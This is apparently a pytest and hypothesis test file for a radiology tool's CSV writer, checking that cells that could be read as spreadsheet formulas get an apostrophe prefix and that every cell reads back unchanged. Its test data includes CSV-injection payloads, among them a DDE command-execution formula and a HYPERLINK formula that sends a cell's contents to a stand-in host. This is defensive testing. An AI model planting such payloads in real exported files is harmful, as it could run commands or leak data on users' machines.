"""No cell that radflow writes is a formula to a spreadsheet; every cell is read back as it was."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from radflow.reports.files import read_rows
from radflow.tables.writing import csv_writer, marked, unmarked

FORMULAS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x/?"&A2,"Normal")',
    "+1",
    "-1",
    "- No pneumothorax.",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tNormal.",
    "  =1",
    "\xa0=1",
    "'=1",
    '"=1',
    " \" ' =1",
    "＝1",
    "＋1",
]
TEXTS = [
    "",
    "Normal.",
    "'Normal'",
    "a=1",
    "No effusion - clear.",
    "'",
    "''",
    " ",
    "1-2",
    "a\rb",
    "a\r\nb",
    "a\nb",
]
CELLS = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12)
SHARP = st.text("=+-@'\" \t\r\n,;a\xa0", max_size=8)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert marked(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_another_text_stays(text: str) -> None:
    assert marked(text) == unmarked(text) == text


def test_only_text_is_marked() -> None:
    file = io.StringIO()
    write = csv_writer(file)
    write(["-id", "b"])
    write([-1, -0.5])
    write([None, float("inf")])
    assert file.getvalue() == "'-id,b\n-1,-0.5\n,inf\n"


@given(SHARP | CELLS)
@example("''=")
def test_what_is_marked_is_unmarked_and_never_a_formula(text: str) -> None:
    assert unmarked(marked(text)) == text
    if marked(text) != text:
        assert marked(text)[0] == "'"


@given(rows=st.lists(st.tuples(SHARP | CELLS, SHARP | CELLS), min_size=1, max_size=5))
@example(rows=[(text, text) for text in FORMULAS + TEXTS])
def test_every_cell_is_read_back_as_it_was(
    rows: list[tuple[str, str]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.getbasetemp() / "written.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        write = csv_writer(file)
        write(["study_id", "=report", "whole"])
        for row in rows:
            write((*row, "x"))  # a row of blanks would be passed over
    assert [(row["study_id"], row["=report"]) for row in (row.fields for row in read_rows(path))] == rows
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for cells in csv.reader(file) for cell in cells]
    assert not [cell for cell in cells if cell.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_nothing_else_writes_csv() -> None:
    root = Path(__file__).parents[2] / "src" / "radflow"
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if any(name in path.read_text(encoding="utf-8") for name in ("csv.writer", "DictWriter", "to_csv"))
    }
    assert writers == {"tables/writing.py"}
